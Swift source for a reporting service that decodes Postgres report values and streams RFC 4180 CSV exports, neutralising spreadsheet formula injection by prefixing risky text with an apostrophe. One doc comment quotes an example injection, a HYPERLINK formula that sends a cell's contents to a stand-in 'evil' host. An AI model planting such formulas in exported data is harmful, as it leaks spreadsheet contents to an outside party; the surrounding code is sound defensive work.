import Foundation
import PostgresNIO

/// One value of a report row, as the report's SQL produced it.
enum ReportCell: Sendable, Equatable {
    case text(String)
    case integer(Int64)
    case number(Double)
    case time(Date)
    case null

    /// Decoded by the column's type: the report queries cast every column to text, bigint, double
    /// precision or timestamptz.
    init(_ cell: PostgresCell) throws {
        guard cell.bytes != nil else {
            self = .null
            return
        }
        switch cell.dataType {
        case .int2, .int4, .int8: self = .integer(try cell.decode(Int64.self))
        // To a millionth: seconds and fractions alike, without binary noise ("2607.8999999999996"
        // for 2607.9 in both JSON and CSV).
        case .float4, .float8: self = .number(Self.millionths(try cell.decode(Double.self)))
        case .timestamptz, .timestamp: self = .time(try cell.decode(Date.self))
        default: self = .text(try cell.decode(String.self))
        }
    }

    static func millionths(_ value: Double) -> Double {
        guard value.isFinite, abs(value) < 1e12 else { return value }
        return (value * 1_000_000).rounded() / 1_000_000
    }

    var integer: Int64 { if case .integer(let value) = self { value } else { 0 } }
    var number: Double? { if case .number(let value) = self { value } else if case .integer(let value) = self { Double(value) } else { nil } }
    var text: String { if case .text(let value) = self { value } else { "" } }
    var time: Date { if case .time(let value) = self { value } else { .distantPast } }
}

/// CSV as RFC 4180 writes it: UTF-8, CRLF line ends, a field quoted (quotes doubled) when it holds a
/// comma, a quote, a line break or leading or trailing space; times in RFC 3339 UTC as in the JSON.
/// A line is written straight into bytes: an export streams millions of them.
enum CSV {
    /// The byte-order mark Excel needs to read UTF-8 (日本語 otherwise turns into mojibake).
    static let byteOrderMark: [UInt8] = [0xEF, 0xBB, 0xBF]

    static func line(_ fields: [String]) -> [UInt8] {
        var bytes: [UInt8] = []
        append(fields, to: &bytes)
        return bytes
    }

    static func line(_ cells: [ReportCell]) -> [UInt8] {
        line(cells.map { field($0) })
    }

    /// Appends one line of `fields` to `bytes`.
    static func append(_ fields: [String], to bytes: inout [UInt8]) {
        for (index, field) in fields.enumerated() {
            if index > 0 { bytes.append(UInt8(ascii: ",")) }
            if needsQuotes(field) {
                bytes.append(UInt8(ascii: "\""))
                for byte in field.utf8 {
                    if byte == UInt8(ascii: "\"") { bytes.append(byte) }
                    bytes.append(byte)
                }
                bytes.append(UInt8(ascii: "\""))
            } else {
                bytes.append(contentsOf: field.utf8)
            }
        }
        bytes.append(contentsOf: [0x0D, 0x0A])
    }

    /// `forSpreadsheet` (the export asked for Excel's byte-order mark): text that a spreadsheet would
    /// run as a formula (`=`, `+`, `-`, `@`, a tab or a CR first) gets a leading `'`, which Excel and
    /// LibreOffice show as text (OWASP's advice for CSV injection). An agent can name a tag
    /// `=HYPERLINK("https://evil/?"&A2,"詳細")`; a manager opening the export would run it. Numbers
    /// and times are never touched, and without the mark the text goes exactly as stored.
    static func field(_ cell: ReportCell, forSpreadsheet: Bool = false) -> String {
        switch cell {
        case .text(let text) where forSpreadsheet && text.utf8.first.map(formulaStarts.contains) == true: "'" + text
        case .text(let text): text
        case .integer(let value): String(value)
        // A whole number as JSON writes it ("8142", not "8142.0"): the two agree cell for cell.
        case .number(let value) where value.isFinite && value == value.rounded() && abs(value) < 1e15: String(Int64(value))
        case .number(let value): value.isFinite ? String(value) : ""
        case .time(let date): date.rfc3339UTC
        case .null: ""
        }
    }

    /// `=`, `+`, `-`, `@`, tab and CR.
    static let formulaStarts: Set<UInt8> = [0x3D, 0x2B, 0x2D, 0x40, 0x09, 0x0D]

    /// One field as a line writes it (quoted when it must be).
    static func quoted(_ field: String) -> String {
        var bytes: [UInt8] = []
        append([field], to: &bytes)
        return String(decoding: bytes.dropLast(2), as: UTF8.self)
    }

    /// A comma, quote, CR or LF anywhere (one byte each in UTF-8, never part of another character),
    /// or a space of any kind at either end.
    static func needsQuotes(_ field: String) -> Bool {
        field.utf8.contains { $0 == UInt8(ascii: ",") || $0 == UInt8(ascii: "\"") || $0 == 0x0D || $0 == 0x0A }
            || field.first?.isWhitespace == true || field.last?.isWhitespace == true
    }
}
